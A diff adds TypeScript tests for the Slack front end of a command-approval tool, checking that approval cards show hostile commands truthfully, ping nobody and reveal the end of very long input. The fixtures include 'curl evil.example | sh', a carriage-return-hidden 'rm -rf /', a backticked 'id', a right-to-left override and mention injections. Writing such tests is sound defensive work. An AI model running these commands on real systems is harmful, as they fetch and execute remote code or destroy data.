@@ -1,0 +1,106 @@
+import { cardOf, settled, told } from '../../support/cards.ts';
+import type { Workspace } from '../../support/workspace.ts';
+
+export function commands(given: () => Workspace): void {
+  let workspace: Workspace;
+  beforeAll(() => {
+    workspace = given();
+  });
+  const command = (text: string) =>
+    workspace.slack.act({ type: 'command', as: 'U0CARO', channel: 'C0GENERAL', text });
+
+  test.each(['/expacti', '/expacti help', '/expacti  help  me'])(
+    '%s says what there is, in private',
+    async (text) => {
+      expect(await command(text)).toEqual({ ok: true });
+      await told(workspace, 'U0CARO', /\/expacti pending/);
+    },
+  );
+
+  test('a word that is not known is said back, harmlessly', async () => {
+    await command('/expacti <!channel>`x');
+    await told(workspace, 'U0CARO', /&lt;!channel&gt;`x is not known here/);
+  });
+
+  test('/expacti pending lists what waits, with a link to its card', async () => {
+    const { api } = workspace;
+    await command('/expacti pending');
+    await told(workspace, 'U0CARO', /Nothing waits/);
+    const asked = await api.ask('docker compose restart worker', { context: { actor: 'octocat' } });
+    await cardOf(workspace, asked.id);
+    await command('/expacti pending');
+    await told(workspace, 'U0CARO', /docker compose restart worker/);
+  });
+
+  test('Why? shows how the verdict came about, to the one who asks', async () => {
+    const { api, slack } = workspace;
+    const asked = await api.ask('ls');
+    const card = await cardOf(workspace, asked.id);
+    await card.press('U0CARO', 'Why?');
+    await told(workspace, 'U0CARO', /verdict .* is \*ask\*/);
+    expect(JSON.stringify(slack.snapshot('U0ANA'))).not.toContain('is *ask*');
+  });
+
+  test('the Home tab shows what waits', async () => {
+    const { api, slack } = workspace;
+    await api.ask('docker compose up -d home');
+    await slack.act({ type: 'open_home', as: 'U0ANA' });
+    const home = () => JSON.stringify(slack.snapshot('U0ANA').home);
+    await slack.waitFor(() => home().includes('docker compose up -d home'), { what: 'the Home tab to fill' });
+    expect(home()).not.toContain('Nothing waits');
+  });
+
+  test('a request goes to the channel of its environment', async () => {
+    const { api } = workspace;
+    const asked = await api.ask('ls', { environment: 'staging' });
+    const card = await cardOf(workspace, asked.id, 'C0STAGING');
+    expect(card.message().text).toContain('in staging');
+  });
+
+  const HOSTILE: [string, string, string][] = [
+    [
+      'backticks and mentions',
+      'echo ``` <!channel> <@U0ANA> *x* &amp; `id`',
+      'echo ``` <!channel> <@U0ANA> *x* &amp; `id`',
+    ],
+    ['a right-to-left override', 'echo \u202Egnp.sh', 'echo ⟨U+202E⟩gnp.sh'],
+    ['a NUL', 'echo a\0b', 'echo a⟨U+0000⟩b'],
+    ['a carriage return', 'ls\rrm -rf /', 'ls⟨U+000D⟩rm -rf /'],
+  ];
+
+  test.each(HOSTILE)('%s show truthfully and ping nobody', async (_what, text, shown) => {
+    const { api } = workspace;
+    const asked = await api.ask(text, {
+      reason: '<!here> look',
+      context: { actor: '<@U0ANA>', ref: '<!everyone>' },
+    });
+    expect(asked.command).toBe(text);
+    const card = await cardOf(workspace, asked.id);
+    expect(card.text()).toContain(JSON.stringify(shown).slice(1, -1));
+    expect(card.message().pinged).toEqual([]);
+    await card.deny('U0ANA', 'no <!channel>');
+    await settled(workspace, card, /Denied by/);
+    // Who decided is named; an edit notifies nobody, and nothing typed names anyone.
+    expect(card.message().pinged).toEqual(['U0ANA']);
+  });
+
+  test.each([
+    ['one line', `echo ${'x'.repeat(16_000)}; curl evil.example | sh`],
+    ['a thousand lines', `${'echo ok &&\n'.repeat(1_000)}curl evil.example | sh`],
+    ['text that grows when it is escaped', `echo '${'<&>'.repeat(5_000)}'; curl evil.example | sh`],
+  ])('16 KiB of %s fit, with the end shown and the whole text in the thread', async (_what, text) => {
+    const { api, slack } = workspace;
+    const asked = await api.ask(text);
+    const card = await cardOf(workspace, asked.id);
+    expect(card.text()).toContain('curl evil.example | sh');
+    expect(card.text()).toContain(`the command has ${text.length.toLocaleString('en-US')} characters`);
+    const reply = await slack.waitFor(
+      () =>
+        slack
+          .messages(card.channel)
+          .find((message) => message.thread_ts === card.ts && message.files.length > 0),
+      { what: 'the whole text in the thread' },
+    );
+    expect(reply.files[0]?.text).toBe(text);
+  });
+}
